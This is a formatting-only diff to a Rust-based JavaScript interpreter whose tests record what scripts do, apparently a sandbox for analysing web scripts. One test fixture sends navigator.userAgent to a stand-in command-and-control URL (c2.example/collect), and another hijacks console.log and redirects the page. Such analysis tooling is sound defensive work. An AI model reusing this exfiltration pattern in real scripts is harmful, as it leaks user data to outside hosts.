@@ -232,11 +232,19 @@ impl Interp {
         match op {
             BinOp::And => {
                 let l = self.eval(lhs, host)?;
-                return if l.truthy() { self.eval(rhs, host) } else { Ok(l) };
+                return if l.truthy() {
+                    self.eval(rhs, host)
+                } else {
+                    Ok(l)
+                };
             }
             BinOp::Or => {
                 let l = self.eval(lhs, host)?;
-                return if l.truthy() { Ok(l) } else { self.eval(rhs, host) };
+                return if l.truthy() {
+                    Ok(l)
+                } else {
+                    self.eval(rhs, host)
+                };
             }
             _ => {}
         }
@@ -321,7 +329,11 @@ fn eval_string_method(s: &str, method: &str, args: &[Value]) -> Result<Value, Sc
             let chars: Vec<char> = s.chars().collect();
             let len = chars.len() as f64;
             let norm = |v: f64| -> usize {
-                let idx = if v < 0.0 { (len + v).max(0.0) } else { v.min(len) };
+                let idx = if v < 0.0 {
+                    (len + v).max(0.0)
+                } else {
+                    v.min(len)
+                };
                 idx as usize
             };
             let start = norm(args.first().and_then(|v| v.as_num()).unwrap_or(0.0));
@@ -425,7 +437,10 @@ mod tests {
     #[test]
     fn string_methods() {
         let mut h = RecordingHost::new();
-        h.set_env("navigator.userAgent", Value::from("Mozilla/5.0 HeadlessChrome/119"));
+        h.set_env(
+            "navigator.userAgent",
+            Value::from("Mozilla/5.0 HeadlessChrome/119"),
+        );
         run_src(
             r#"
             var ua = navigator.userAgent;
@@ -459,12 +474,19 @@ mod tests {
     #[test]
     fn member_write_reaches_host() {
         let mut h = RecordingHost::new();
-        run_src("console.log = 'hijacked'; location.href = 'https://next.example/';", &mut h)
-            .unwrap();
+        run_src(
+            "console.log = 'hijacked'; location.href = 'https://next.example/';",
+            &mut h,
+        )
+        .unwrap();
         assert_eq!(
             h.prop_writes(),
             [
-                ("console".to_string(), "log".to_string(), "hijacked".to_string()),
+                (
+                    "console".to_string(),
+                    "log".to_string(),
+                    "hijacked".to_string()
+                ),
                 (
                     "location".to_string(),
                     "href".to_string(),
@@ -489,7 +511,11 @@ mod tests {
     fn fetch_records_url_and_body() {
         let mut h = RecordingHost::new();
         h.set_env("navigator.userAgent", Value::from("UA"));
-        run_src("fetch('https://c2.example/collect', navigator.userAgent);", &mut h).unwrap();
+        run_src(
+            "fetch('https://c2.example/collect', navigator.userAgent);",
+            &mut h,
+        )
+        .unwrap();
         assert_eq!(
             h.fetches(),
             [("https://c2.example/collect".to_string(), "UA".to_string())]
@@ -499,7 +525,11 @@ mod tests {
     #[test]
     fn comparison_on_strings() {
         let mut h = RecordingHost::new();
-        run_src("console.log('abc' == 'abc'); console.log('a' < 'b');", &mut h).unwrap();
+        run_src(
+            "console.log('abc' == 'abc'); console.log('a' < 'b');",
+            &mut h,
+        )
+        .unwrap();
         assert_eq!(h.console_lines(), ["true", "true"]);
     }
 
